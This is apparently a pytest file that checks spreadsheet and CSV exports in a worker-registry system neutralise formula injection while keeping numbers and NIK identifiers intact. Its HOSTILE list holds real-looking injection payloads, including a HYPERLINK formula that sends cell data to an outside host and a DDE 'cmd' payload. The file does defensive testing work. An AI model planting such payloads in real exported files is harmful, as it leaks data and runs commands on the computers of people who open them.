"""Formula neutralisation (issue 9.3): every spreadsheet and CSV the system writes shows
"=1+1" as text, keeps numbers as numbers and NIKs as they are; and no code outside
ucj/core/spreadsheets.py creates a workbook or a CSV on its own."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import openpyxl
import polars as pl
import pytest

from ucj.core import spreadsheets
from ucj.core.spreadsheets import (
    csv_writer,
    neutralise,
    new_workbook,
    safe_csv_frame,
    write_csv,
)

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1",
           "=HYPERLINK(\"http://x.invalid/?\"&A1,\"klik\")", "=cmd|' /C calc'!A0", "\uff1d1+1"]
HARMLESS = ["6101010101900001", "-12", "+6281234567890", "-12.5", "3,5", "-", "Budi", "",
            "a=b", "1e5"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_niks_and_plain_text_are_left_alone(text):
    assert neutralise(text) == text


def test_polars_rule_is_the_same_as_the_python_rule():
    frame = pl.DataFrame({"t": HOSTILE + HARMLESS + [None], "n": list(range(len(HOSTILE) + len(HARMLESS) + 1))})
    out = safe_csv_frame(frame)
    expected = [neutralise(t) for t in HOSTILE + HARMLESS] + [None]
    assert out["t"].to_list() == expected
    assert out["n"].to_list() == frame["n"].to_list()  # numbers untouched


def _cells(data: bytes) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [[cell for cell in row] for sheet in book.worksheets for row in sheet.iter_rows()]


def _assert_neutralised(data: bytes, hostile: str = "=1+1") -> None:
    """The workbook has the text as typed, in a text cell with Excel's quote prefix (kept
    text when edited), and no formula; no cell shows an added apostrophe."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(rb"<f[ >]", xml) for xml in sheets), "a formula was written"
    cells = [cell for row in _cells(data) for cell in row]
    found = [cell for cell in cells if cell.value == hostile]
    assert found and all(cell.data_type == "s" and cell.quotePrefix for cell in found)
    assert not any(cell.value == "'" + hostile for cell in cells)


def test_safe_workbook_neutralises_every_way_of_writing_text():
    buffer = io.BytesIO()
    book = new_workbook(buffer, {"strings_to_formulas": True})  # cannot be switched back on
    sheet = book.add_worksheet()
    sheet.write(0, 0, "=1+1")
    sheet.write_string(1, 0, "=1+1")
    sheet.write_row(2, 0, ["=1+1", -5, "-5", "6101010101900001"])
    sheet.write_number(3, 0, -7.5)
    book.close()
    _assert_neutralised(buffer.getvalue())
    rows = _cells(buffer.getvalue())
    assert [c.value for c in rows[2]] == ["=1+1", -5, "-5", "6101010101900001"]
    assert [c.quotePrefix for c in rows[2]] == [True, False, False, False]
    assert rows[2][1].data_type == "n" and rows[3][0].value == -7.5


def test_a_phone_keeps_its_plus_without_a_visible_apostrophe_and_its_cell_style():
    buffer = io.BytesIO()
    book = new_workbook(buffer, {"constant_memory": True})
    shaded = book.add_format({"bg_color": "#F8D7DA", "num_format": "@"})
    sheet = book.add_worksheet()
    sheet.write_string(0, 0, "+62 812-3456-7890", shaded)
    sheet.write_string(0, 1, "Budi", shaded)
    book.close()
    phone, name = _cells(buffer.getvalue())[0]
    assert phone.value == "+62 812-3456-7890" and phone.quotePrefix
    assert phone.fill.fgColor.rgb == name.fill.fgColor.rgb == "FFF8D7DA"
    assert phone.number_format == "@" and not name.quotePrefix


def test_csv_helpers_neutralise_text_and_keep_numbers():
    frame = pl.DataFrame({"nama": ["=1+1", "Budi"], "nilai": [-3, 4], "nik": ["6101010101900001", "x"]})
    text = write_csv(frame)
    assert text.splitlines()[1] == "'=1+1,-3,6101010101900001"
    handle = io.StringIO()
    csv_writer(handle).writerow(["@SUM(A1)", -2, "-2"])
    assert handle.getvalue().strip() == "'@SUM(A1),-2,-2"


# Every export of the system -------------------------------------------------------------


def test_coverage_workbooks(settings):
    from ucj.coverage import exports

    area = SimpleNamespace(code="61.01.01", name="=1+1", workers=10, active=-1, active_share=0.5)
    _assert_neutralised(exports.areas_workbook([area]))
    eco = SimpleNamespace(ecosystem_name="=1+1", workers=1, active=1, lapsed=0, not_enrolled=0,
                          active_share=1.0)
    _assert_neutralised(exports.ecosystems_workbook([eco]))
    indicator = SimpleNamespace(
        region_code="61.01", region_name="Sambas", month=date(2026, 6, 1), numerator=5,
        numerator_source="=1+1", rate=0.2, migrants=0,
        denominator=SimpleNamespace(value=25, get_kind_display=lambda: "x", source="BPS",
                                    reference_date=date(2025, 1, 1)))
    outlook = SimpleNamespace(target=None, year_target=None, year_gap=None, bpu=None, gap=3,
                              year_reaching=2029)
    _assert_neutralised(exports.ranking_workbook([SimpleNamespace(indicator=indicator,
                                                                  outlook=outlook)]))


def test_error_workbook_of_the_intake():
    from ucj.registry.intake.report import build_error_workbook

    rows = pl.DataFrame({"_row": [2], "c0": ["=1+1"], "c1": ["6101010101900001"]})
    results = pl.DataFrame({"row_number": [2], "verdict": ["rejected"], "reasons": ["nik"],
                            "warnings": [""], "message": ["=1+1"]})
    data = build_error_workbook(rows=rows, headers=["NAMA", "NIK"], results=results,
                                summary={"Berkas": "=1+1"}, code_counts=[])
    _assert_neutralised(data)
    values = [c.value for row in _cells(data) for c in row]
    assert "6101010101900001" in values


def test_demo_files(tmp_path):
    from ucj.core.demo import generate_people, write_people

    people = generate_people(seed=3, persons=3, regency="61.01").with_columns(
        pl.lit("=1+1").alias("nama"))
    write_people(people, tmp_path / "d.xlsx")
    _assert_neutralised((tmp_path / "d.xlsx").read_bytes())
    write_people(people, tmp_path / "d.csv")
    lines = (tmp_path / "d.csv").read_text().splitlines()
    assert all(",'=1+1," in line for line in lines[1:])
    assert people["nik"][0] in lines[1]


@pytest.mark.django_db
def test_membership_status_workbook(kalbar, provinsi_user):
    from ucj.membership.exports import status_workbook
    from ucj.membership.models import Extract, Reconciliation, WorkerMembership
    from ucj.registry.models import Submission, Worker, WorkerListing

    worker = Worker.objects.create(nik="6101010101900001", name="=1+1")
    submission = Submission.objects.create(regency_id="61.01", ecosystem_id="rentan",
                                           file_name="x.csv", file_sha256="0" * 64)
    WorkerListing.objects.create(worker=worker, ecosystem_id="rentan", regency_id="61.01",
                                 first_submission=submission, last_submission=submission)
    extract = Extract.objects.create(as_of=date(2026, 6, 30), file_name="e.csv",
                                     file_sha256="1" * 64, status="done")
    run = Reconciliation.objects.create(extract=extract, upper_threshold=0.9,
                                        lower_threshold=0.5, status="done")
    WorkerMembership.objects.create(reconciliation=run, worker=worker, status="not_enrolled",
                                    method="none", kpj="=1+1")
    data = status_workbook(provinsi_user, run, status="not_enrolled")
    _assert_neutralised(data)
    assert "6101010101900001" in [c.value for row in _cells(data) for c in row]


# No other way out --------------------------------------------------------------------------

WRITERS = re.compile(r"xlsxwriter\.Workbook\(|import xlsxwriter|from xlsxwriter|\.write_csv\("
                     r"|csv\.writer\(|csv\.DictWriter\(|\.write_excel\(|\.to_csv\(|\.to_excel\(")
# Files allowed to write CSV themselves, and why.
ALLOWED = {
    "ucj/core/spreadsheets.py": "the helpers themselves",
    "ucj/core/bulk.py": "CSV streamed into PostgreSQL COPY, never a file anyone opens",
}


def test_every_writer_goes_through_the_helpers():
    offenders = []
    for path in sorted((ROOT / "ucj").rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if relative in ALLOWED:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line) and not line.lstrip().startswith("#"):
                offenders.append(f"{relative}:{number}: {line.strip()}")
    assert not offenders, (
        "Write spreadsheets and CSV through ucj.core.spreadsheets (new_workbook, write_csv, "
        "safe_csv_frame, csv_writer), which neutralise formulas:\n" + "\n".join(offenders))


def test_the_helpers_module_is_what_the_scan_allows():
    assert spreadsheets.__file__.endswith("ucj/core/spreadsheets.py")
